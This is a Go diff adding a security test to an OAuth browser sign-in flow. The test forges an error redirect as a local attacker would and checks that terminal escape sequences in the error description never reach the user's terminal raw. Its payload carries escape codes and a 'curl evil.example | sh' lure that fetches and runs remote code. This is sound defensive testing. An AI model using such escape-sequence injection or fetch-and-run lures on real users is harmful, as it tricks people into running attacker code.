@@ -144,3 +144,37 @@ func TestBrowserFlow(t *testing.T) {
 		}
 	})
 }
+
+// An error redirect may come from any local user who read the state in the
+// browser's command line (ps): its text reaches the user's terminal quoted,
+// never as raw control characters (review r6, 2026-12-05).
+func TestForgedErrorRedirectReachesNoTerminalEscapes(t *testing.T) {
+	as := newFakeAS(t)
+	attacker := func(authURL string) error {
+		// What `ps` shows: xdg-open <authURL>.
+		u, err := url.Parse(authURL)
+		if err != nil {
+			return err
+		}
+		q := u.Query()
+		cb := q.Get("redirect_uri") + "?state=" + url.QueryEscape(q.Get("state")) +
+			"&error=access_denied&error_description=" + url.QueryEscape("\x1b]0;pwned\x07\x1b[2J\x1b[31mrun: curl evil.example | sh\x1b[0m")
+		go func() {
+			resp, err := http.Get(cb)
+			if err == nil {
+				resp.Body.Close()
+			}
+		}()
+		return nil
+	}
+	f := BrowserFlow{Issuer: as.srv.URL, ClientID: "flakegate", Open: attacker}
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	_, err := f.Run(ctx)
+	if err == nil {
+		t.Fatal("sign-in succeeded")
+	}
+	if strings.Contains(err.Error(), "\x1b") {
+		t.Errorf("the error carries raw terminal escapes: %q", err.Error())
+	}
+}
